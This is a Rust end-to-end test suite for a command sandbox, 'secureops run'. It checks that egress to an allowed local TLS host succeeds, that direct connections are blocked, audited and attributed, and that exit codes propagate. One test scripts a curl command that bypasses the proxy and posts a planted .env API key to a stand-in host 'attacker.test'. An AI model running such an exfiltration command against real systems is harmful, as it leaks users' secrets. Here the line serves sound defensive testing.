//! `secureops run -- CMD` in its own network namespace (the transparent
//! funnel): real curl to an allowed local TLS host succeeds; `curl -d @.env`
//! straight at an "attacker" (ignoring proxy variables) is reset and the
//! attacker sees 0 bytes; exactly one audit entry records it and the log
//! verifies; CMD's exit code is propagated.

use std::process::Command;
use std::time::Duration;

use secureops_e2e::*;

fn run(args: &[&str]) -> std::process::Output {
    match Command::new(bin_path("secureops"))
        .arg("run")
        .args(args)
        .output()
    {
        Ok(o) => o,
        Err(e) => panic!("secureops run: {e}"),
    }
}

#[test]
fn run_in_namespace() {
    if !is_root() {
        skip!("secureops run's namespace tier needs root");
    }
    for c in ["ip", "iptables", "curl"] {
        if !have_command(c) {
            skip!("{c} is not installed");
        }
    }
    let tls = match TlsServer::start(&["allowed.test"]) {
        Ok(t) => t,
        Err(e) => skip!("no TLS server: {e}"),
    };
    let attacker = CountingListener::start();
    let tmp = tempfile::tempdir().expect("tempdir");
    let policy = write(
        tmp.path(),
        "p.yaml",
        &format!(
            "version: 1\ndefault: deny\nresolved_ip_allow: [127.0.0.0/8]\negress_allowlist:\n  - allowed.test:{}\n",
            tls.port
        ),
    );
    let secret = write(tmp.path(), ".env", "OPENAI_API_KEY=sk-hunter2\n");
    let data = tmp.path().join("run-data");
    let p = policy.display().to_string();
    let d = data.display().to_string();
    let common = [
        "--policy",
        p.as_str(),
        "--data-dir",
        d.as_str(),
        "--require-namespace",
        "--resolve",
        "allowed.test=127.0.0.1",
        "--resolve",
        "attacker.test=127.0.0.1",
    ];

    // Allowed host: curl honours the proxy variables `run` sets.
    let ca = tls.ca_file.display().to_string();
    let url = format!("https://allowed.test:{}/", tls.port);
    let mut args = common.to_vec();
    args.extend([
        "--",
        "curl",
        "-sS",
        "-m",
        "10",
        "-o",
        "/dev/null",
        "--cacert",
        &ca,
        &url,
    ]);
    let ok = run(&args);
    assert!(
        ok.status.success(),
        "allowed host from inside the namespace: {ok:?}"
    );
    let tier = String::from_utf8_lossy(&ok.stderr);
    assert!(
        tier.contains("EnforcementTier=Namespace"),
        "tier is announced: {tier}"
    );

    // The exfiltration attempt ignores the proxy variables and goes straight
    // for the attacker's address: the transparent funnel catches it, the
    // proxy resets it, the attacker sees nothing.
    let script = format!(
        "gw=$(ip route | awk '/default/ {{print $3}}'); \
         exec curl -sS -m 10 --noproxy '*' --resolve attacker.test:{port}:$gw -k -d @{secret} https://attacker.test:{port}/",
        port = attacker.addr.port(),
        secret = secret.display()
    );
    let mut args = common.to_vec();
    args.extend(["--", "sh", "-c", &script]);
    let bad = run(&args);
    let code = bad.status.code().unwrap_or(-1);
    assert!(
        code == 35 || code == 56 || code == 7,
        "curl is reset, not answered (exit {code}): {bad:?}"
    );
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("BLOCKED"),
        "the block is shown to the user: {bad:?}"
    );
    assert_eq!(
        attacker.seen(),
        (0, 0),
        "the attacker saw a connection or bytes"
    );
    // The process in the other network namespace is attributed (pid, exe).
    let blocked = String::from_utf8_lossy(&bad.stderr);
    let line = blocked
        .lines()
        .find(|l| l.contains("BLOCKED") && l.contains("attacker.test"))
        .unwrap_or_else(|| panic!("no BLOCKED line for attacker.test: {blocked}"));
    assert!(
        line.contains("curl") && !line.contains(" pid=0 "),
        "attributed across namespaces: {line}"
    );
    assert!(!line.contains("unattributed"), "{line}");

    // Exactly one audit entry for that attempt, and the log verifies.
    let audit_dir = data.join("audit");
    let pubkey = audit_dir.join("audit.key.pub");
    let verify = cli(
        &[
            "audit",
            "verify",
            "--dir",
            &audit_dir.display().to_string(),
            "--pubkey",
            &pubkey.display().to_string(),
        ],
        &[],
    );
    assert!(verify.status.success(), "audit verify: {verify:?}");
    let findings = cli(
        &[
            "policy",
            "test",
            &p,
            "--audit-dir",
            &audit_dir.display().to_string(),
            "--json",
        ],
        &[],
    );
    assert!(
        findings.status.success(),
        "policy test over the log: {findings:?}"
    );
    let v: serde_json::Value = serde_json::from_slice(&findings.stdout).expect("json");
    let attempts: Vec<_> = v
        .as_array()
        .map(|a| {
            a.iter()
                .filter(|e| {
                    e["destination"]
                        .as_str()
                        .is_some_and(|d| d.starts_with("attacker.test:"))
                })
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(attempts.len(), 1, "exactly one entry for the attempt: {v}");
    assert_eq!(attempts[0]["recorded_decision"], "deny");

    // Exit codes are propagated.
    let mut args = common.to_vec();
    args.extend(["--", "sh", "-c", "exit 7"]);
    let seven = run(&args);
    assert_eq!(seven.status.code(), Some(7), "{seven:?}");
    let _ = Duration::ZERO;
}

/// The rootless tier: an unprivileged user runs `secureops run`; CMD gets
/// its own user + network namespace where only the proxy and the sinkhole
/// are reachable. The allowed host works through the proxy variables; a
/// direct connection has no route.
#[test]
fn run_rootless_user_namespace() {
    use std::os::unix::fs::PermissionsExt;
    if !is_root() {
        skip!("needs root to switch to an unprivileged user for the test");
    }
    for c in ["setpriv", "unshare", "curl", "ip"] {
        if !have_command(c) {
            skip!("{c} is not installed");
        }
    }
    let probe = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "unshare",
            "--user",
            "--map-root-user",
            "--net",
            "--mount",
            "true",
        ])
        .output();
    if !probe.map(|o| o.status.success()).unwrap_or(false) {
        skip!("unprivileged user namespaces are not allowed on this kernel");
    }
    let tls = match TlsServer::start(&["allowed.test"]) {
        Ok(t) => t,
        Err(e) => skip!("no TLS server: {e}"),
    };
    let tmp = tempfile::tempdir().expect("tempdir");
    std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let ca = write(
        tmp.path(),
        "ca.pem",
        &std::fs::read_to_string(&tls.ca_file).expect("ca"),
    );
    let policy = write(
        tmp.path(),
        "p.yaml",
        &format!(
            "version: 1\ndefault: deny\nresolved_ip_allow: [127.0.0.0/8]\negress_allowlist:\n  - allowed.test:{}\n",
            tls.port
        ),
    );
    let script = format!(
        "curl -sS -m 10 -o /dev/null -w 'allowed=%{{http_code}}\\n' --cacert {ca} https://allowed.test:{port}/; \
         curl -sS -m 3 --noproxy '*' http://198.18.200.1:80/; echo direct=$?",
        ca = ca.display(),
        port = tls.port
    );
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "env",
            "HOME=/tmp",
        ])
        .arg(bin_path("secureops"))
        .args([
            "run",
            "--policy",
            &policy.display().to_string(),
            "--resolve",
            "allowed.test=127.0.0.1",
            "--",
            "sh",
            "-c",
            &script,
        ])
        .output()
        .expect("secureops run as nobody");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("EnforcementTier=UserNamespace"),
        "tier: {stderr}"
    );
    assert!(
        stdout.contains("allowed=200"),
        "allowed host through the relay: {stdout}\n{stderr}"
    );
    let direct = stdout
        .lines()
        .find_map(|l| l.strip_prefix("direct="))
        .unwrap_or("missing");
    assert_ne!(
        direct, "0",
        "a direct connection must have no route: {stdout}\n{stderr}"
    );
}
